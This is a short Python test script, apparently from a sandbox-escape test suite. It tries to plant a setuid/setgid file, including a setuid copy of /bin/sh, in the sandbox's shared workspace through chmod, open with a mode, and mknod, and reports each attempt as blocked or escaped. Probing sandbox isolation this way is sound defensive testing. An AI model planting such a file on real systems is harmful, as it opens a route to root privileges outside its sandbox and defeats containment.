"""Plants a setuid/setgid program in the directory the sandbox works in, which outlives the
run: on the host it belongs to the directory's owner (root, for a root-owned workspace
shown to the sandbox user through an id map), so anyone who can reach it would run it as
that owner. Tries each way a mode is given: chmod, open with a mode, mknod of a file.

usage: setuid_plant.py DIR
"""
import os
import stat
import sys

from _common import blocked, done, errname, escaped

directory = sys.argv[1]
SETID = stat.S_ISUID | stat.S_ISGID


def attempt(name, make):
    path = os.path.join(directory, name)
    try:
        make(path)
        mode = os.stat(path).st_mode
    except OSError as e:
        blocked(f"{name}: {errname(e.errno)}")
        return
    if mode & SETID:
        escaped(f"{path} has mode {stat.filemode(mode)}")
    else:
        blocked(f"{name}: the bits were dropped ({stat.filemode(mode)})")


def chmod_copy(path):
    with open("/bin/sh", "rb") as src, open(path, "wb") as dst:
        dst.write(src.read())
    os.chmod(path, 0o6755)


def open_with_mode(path):
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))


def mknod_file(path):
    os.mknod(path, stat.S_IFREG | 0o2755)


attempt("chmod-shell", chmod_copy)
attempt("open-mode", open_with_mode)
attempt("mknod-file", mknod_file)
done()
